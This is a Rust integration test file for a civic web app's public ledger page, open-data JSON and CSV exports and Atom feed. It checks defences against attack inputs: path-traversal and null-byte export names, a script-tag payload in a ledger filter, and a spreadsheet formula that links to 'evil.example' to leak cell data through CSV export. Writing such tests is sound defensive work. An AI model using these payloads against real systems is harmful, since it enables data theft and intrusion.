//! The public ledger page, the open-data exports and the Atom feed over HTTP.

use axum::http::{StatusCode, header};

mod common;
use common::TestApp;

#[tokio::test]
async fn every_dataset_is_served_in_json_and_csv_at_its_stable_url() {
    let app = TestApp::with_demo().await;
    let index = app.get("/api/export", "").await;
    assert_eq!(index.status, StatusCode::OK);
    let index: serde_json::Value = serde_json::from_str(&index.body).unwrap();
    let names: Vec<&str> = index["datasets"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["name"].as_str().unwrap())
        .collect();
    for required in [
        "proposals",
        "proposal_versions",
        "comments",
        "amendments",
        "votes",
        "draws",
        "city_responses",
        "sittings",
        "agenda_items",
        "attendance",
        "ledger",
    ] {
        assert!(names.contains(&required), "{required}");
    }
    for name in names {
        let json = app.get(&format!("/api/export/{name}.json"), "").await;
        assert_eq!(json.status, StatusCode::OK, "{name}");
        assert_eq!(json.headers[header::CONTENT_TYPE], "application/json");
        assert_eq!(json.headers[header::ACCESS_CONTROL_ALLOW_ORIGIN], "*");
        let rows: Vec<serde_json::Value> = serde_json::from_str(&json.body).unwrap();
        assert!(!rows.is_empty(), "{name}");
        let csv = app.get(&format!("/api/export/{name}.csv"), "").await;
        assert_eq!(csv.status, StatusCode::OK);
        assert!(
            csv.headers[header::CONTENT_TYPE]
                .to_str()
                .unwrap()
                .starts_with("text/csv")
        );
        // A header line plus one line per row (bodies may hold newlines, so at least).
        assert!(csv.body.lines().count() > rows.len(), "{name}");
    }
    app.db.remove().await;
}

#[tokio::test]
async fn unknown_or_hostile_export_names_are_404s() {
    let app = TestApp::empty().await;
    for uri in [
        "/api/export/users.json",
        "/api/export/proposals.xml",
        "/api/export/proposals",
        "/api/export/..%2F..%2Fetc%2Fpasswd",
        "/api/export/proposals.json%00.csv",
        "/api/export/sessions.csv",
    ] {
        let reply = app.get(uri, "").await;
        assert_eq!(reply.status, StatusCode::NOT_FOUND, "{uri}");
        assert!(reply.body.contains("proposals"), "{uri}: names what exists");
    }
    app.db.remove().await;
}

#[tokio::test]
async fn the_ledger_page_lists_entries_and_filters_by_subject() {
    let app = TestApp::with_demo().await;
    let page = app.get("/ledger", "").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("Registre public"));
    assert!(
        page.body.contains("Résultat d&#x27;un vote") || page.body.contains("Résultat d'un vote")
    );
    let entries: Vec<ledger::Entry> =
        serde_json::from_str(&app.get("/api/export/ledger.json", "").await.body).unwrap();
    let newest = entries.last().unwrap();
    assert!(page.body.contains(&newest.hash), "newest first");

    let draw = app.get("/ledger?subject=draw/1", "").await;
    assert_eq!(draw.status, StatusCode::OK);
    assert!(draw.body.contains("Entrées concernant le tirage n° 1"));
    assert!(draw.body.contains("Résultat du tirage"));
    assert!(!draw.body.contains("Réponse de la Ville —"));

    for bad in [
        "/ledger?subject=vote/1",
        "/ledger?subject=%3Cscript%3Ealert(1)%3C/script%3E",
        "/ledger?page=0",
        "/ledger?page=abc",
    ] {
        let reply = app.get(bad, "").await;
        assert_eq!(reply.status, StatusCode::BAD_REQUEST, "{bad}");
        assert!(!reply.body.contains("<script>alert"), "{bad}");
    }
    let english = app.get("/ledger?subject=vote/1", "lang=en").await;
    assert!(english.body.contains("This subject does not exist"));
    app.db.remove().await;
}

#[tokio::test]
async fn the_atom_feed_announces_decisions_with_their_hashes() {
    let app = TestApp::with_demo().await;
    let feed = app.get("/feed.atom", "").await;
    assert_eq!(feed.status, StatusCode::OK);
    assert_eq!(
        feed.headers[header::CONTENT_TYPE],
        "application/atom+xml; charset=utf-8"
    );
    assert!(
        feed.body
            .starts_with("<?xml version=\"1.0\" encoding=\"utf-8\"?>")
    );
    assert!(
        feed.body
            .contains("<feed xmlns=\"http://www.w3.org/2005/Atom\"")
    );
    let entries = feed.body.matches("<entry>").count();
    assert!(entries > 0 && entries <= 50, "{entries}");
    assert_eq!(entries, feed.body.matches("</entry>").count());
    let ledger: Vec<ledger::Entry> =
        serde_json::from_str(&app.get("/api/export/ledger.json", "").await.body).unwrap();
    let newest_decision = ledger
        .iter()
        .rev()
        .find(|e| e.kind == "vote.result")
        .unwrap();
    assert!(feed.body.contains(&newest_decision.hash));
    app.db.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_formula_written_by_a_resident_reaches_the_csv_as_text() {
    let app = TestApp::with_demo().await;
    let query =
        domain::ProposalQuery::parse(None, Some("deliberation"), None, None, None, None).unwrap();
    let id = db::proposals_page(&app.db.conn, &query)
        .await
        .unwrap()
        .items[0]
        .id
        .to_string();
    let resident = app
        .sign_in(db::demo::DEMO_ACCOUNTS[3].0, db::demo::DEMO_ACCOUNTS[3].1)
        .await;
    let attack = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Voir\")";
    let posted = app
        .call(
            "proposal/comment",
            &[("proposal_id", &id), ("stance", "pour"), ("body", attack)],
            &resident,
        )
        .await;
    assert_eq!(posted.status, StatusCode::OK, "{}", posted.body);
    let csv = app.get("/api/export/comments.csv", "").await;
    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    assert!(cells.iter().any(|c| c == &format!("'{attack}")));
    assert!(cells.iter().all(|c| !c.starts_with('=')));
    // The JSON keeps the words as written.
    let json = app.get("/api/export/comments.json", "").await;
    let rows: Vec<serde_json::Value> = serde_json::from_str(&json.body).unwrap();
    assert!(rows.iter().any(|r| r["body"] == attack));
    app.db.remove().await;
}
